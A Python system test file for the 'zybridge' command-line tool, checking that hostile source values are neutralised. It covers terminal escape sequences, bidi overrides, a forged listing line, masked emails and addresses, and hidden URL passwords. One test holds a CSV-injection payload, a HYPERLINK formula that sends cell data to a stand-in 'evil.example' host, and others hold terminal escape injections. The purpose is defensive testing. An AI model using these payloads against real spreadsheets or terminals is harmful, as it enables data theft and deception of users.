"""What the command line prints and exports, against hostile values (issue 18), through the
real `zybridge` main() with a synced sample store, the sandbox and a real state file:
no escape sequence reaches the terminal, no CSV cell runs as a formula, listings mask
every personal field, no URL password is shown."""

from __future__ import annotations

import csv
import io
import json
import re

from bridge.testing.harness import free_port
from bridge.testing.sample import update_rows
from state.audit import Entry
from state.store import StateStore
from tests.system.helpers import cycle, make_config
from tests.system.test_admin import OLD, Bridge, bridge, write_config

__all__ = ["bridge"]  # the fixture

TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
TITLE = "\x1b]0;you have been pwned\x07社区\u202e服务\x1b[2J"
EMAIL = "lin.zhiming@example.com"
ADDRESS = "厦门市海沧区兴港路10号"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def quarantine_project(b: Bridge, **values: object) -> str:
    """Project 1 quarantined (its intro is gone: REQUIRED) with these column values."""
    update_rows(b.store, "project", [1], {"intro": None, **values})
    cycle(make_config(b.tmp, b.sandbox, b.store))
    return "haicang:project:1"


def test_escape_sequences_in_a_source_value_never_reach_the_terminal(bridge: Bridge) -> None:
    ref = quarantine_project(bridge, title=TITLE)
    update_rows(bridge.store, "volunteer", [30], {"email": "\x1b]0;x\x07" + EMAIL})
    cycle(make_config(bridge.tmp, bridge.sandbox, bridge.store))
    for argv in (("quarantine", "show", ref), ("quarantine", "show", "haicang:volunteer:30"),
                 ("quarantine", "show", ref, "--json"), ("quarantine", "list"),
                 ("audit", "log", "--ref", ref)):
        code, out, err = bridge.run(*argv)
        assert code == 0, err
        assert not TERMINAL_CONTROL.search(out + err), argv
    assert "社区服务" in bridge.run("quarantine", "show", ref)[1]


def test_a_file_name_with_escape_sequences_is_printed_clean_in_an_error(
        bridge: Bridge) -> None:
    code, out, err = bridge.run("audit", "verify", "--archive",
                                str(bridge.tmp / "old\x1b]0;pwned\x07\x1b[2J.jsonl.gz"))
    assert code == 2 and err.startswith("zybridge: error: no archive file at")
    assert not TERMINAL_CONTROL.search(out + err) and "old.jsonl.gz" in err


def test_an_email_and_an_address_in_a_quarantined_row_print_masked(bridge: Bridge) -> None:
    ref = quarantine_project(bridge, address=ADDRESS)
    update_rows(bridge.store, "volunteer", [30], {"email": EMAIL})
    cycle(make_config(bridge.tmp, bridge.sandbox, bridge.store))
    for shown in (bridge.run("quarantine", "show", ref)[1],
                  bridge.run("quarantine", "show", "haicang:volunteer:30")[1],
                  bridge.run("quarantine", "show", "haicang:volunteer:30", "--json")[1]):
        assert ADDRESS not in shown and EMAIL not in shown and "example.com" not in shown
    text = bridge.run("quarantine", "show", ref)[1]
    assert "address: 厦**********号" in text
    assert "email: l*********************m" in bridge.run(
        "quarantine", "show", "haicang:volunteer:30")[1]


def test_audit_log_csv_writes_a_platform_returned_formula_as_text(bridge: Bridge) -> None:
    store = StateStore.open(bridge.tmp / "state.db")
    try:
        with store.transaction():
            store.audit([Entry("result", {
                "op": "upsert", "status": FORMULA, "national_id": None,
                "errors": [{"field": "name", "code": "-1+2", "message": FORMULA}],
                "batch_key": "@evil"}, ref=FORMULA)])
    finally:
        store.close()
    code, out, err = bridge.run("audit", "log", "--format", "csv", "--kind", "result")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    cells = [c for row in rows[1:] for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert last["ref"] == "'" + FORMULA and last["status"] == "'" + FORMULA
    assert json.loads(last["data"])["errors"][0]["message"] == FORMULA


def test_check_never_prints_the_password_written_in_base_url(bridge: Bridge) -> None:
    url = bridge.sandbox.base_url.replace("http://", "http://zyb:s3cret-in-url@")
    write_config(bridge.tmp, bridge.sandbox, bridge.store, base_url=url)
    code, out, err = bridge.run("check")
    assert code == 0, out
    assert "platform health" in out and "s3cret-in-url" not in out + err
    assert "zyb:***@" in out
    doc = bridge.run("check", "--json")[1]
    assert "s3cret-in-url" not in doc and json.loads(doc)["checks"]


def test_an_error_never_prints_a_source_urls_password(bridge: Bridge) -> None:
    config = bridge.config.read_text(encoding="utf-8")
    bridge.config.write_text(re.sub(
        r'url = "sqlite:///[^"]*"',
        'url = "mysql+pymysql://sync:db-s3cret-9@127.0.0.1:1/zyy?connect_timeout=1"',
        config) + "[[sources]]\n" + "\n".join([
            'name = "shegong"', 'kind = "http"', 'mapping = "shegong"', 'token = "t0ken-1234"',
            f'url = "http://agency:http-s3cret-7@127.0.0.1:{free_port()}/api"',
            'projects_from = "haicang"', 'every = "10m"']) + "\n", encoding="utf-8")
    for argv in (("check",), ("check", "--json"), ("sync",)):
        code, out, err = bridge.run(*argv)
        assert code != 0
        assert "db-s3cret-9" not in out + err and "http-s3cret-7" not in out + err, argv
    fails = [x for x in bridge.run("check")[1].splitlines() if x.startswith("FAIL")]
    assert [x.split(":")[0] for x in fails] == ["FAIL  source haicang", "FAIL  source shegong"]
    log = bridge.tmp / "bridge.jsonl"
    assert not log.exists() or "s3cret" not in log.read_text(encoding="utf-8")


def test_a_dry_run_diff_masks_an_email_and_an_address(bridge: Bridge) -> None:
    update_rows(bridge.store, "volunteer", [1], {"email": EMAIL}, modified=OLD)
    update_rows(bridge.store, "organization", [1], {"address": ADDRESS}, modified=OLD)
    out = "".join(bridge.run("resync", "--source", "haicang", "--id", "1", "--dry-run",
                             "--entity", entity)[1] for entity in ("volunteer", "organization"))
    assert "email: " in out and "address: " in out
    assert EMAIL not in out and "example.com" not in out and ADDRESS not in out
    assert "→ l*********************m" in out and "→ 厦**********号" in out


def test_a_line_break_in_a_source_value_cannot_forge_a_line_of_a_listing(
        bridge: Bridge) -> None:
    ref = quarantine_project(bridge, title="社区服务\naudit log intact: 9999 entries")
    out = bridge.run("quarantine", "show", ref)[1]
    assert "  title: 社区服务 audit log intact: 9999 entries" in out
    assert not any(line.startswith("audit log intact") for line in out.splitlines())
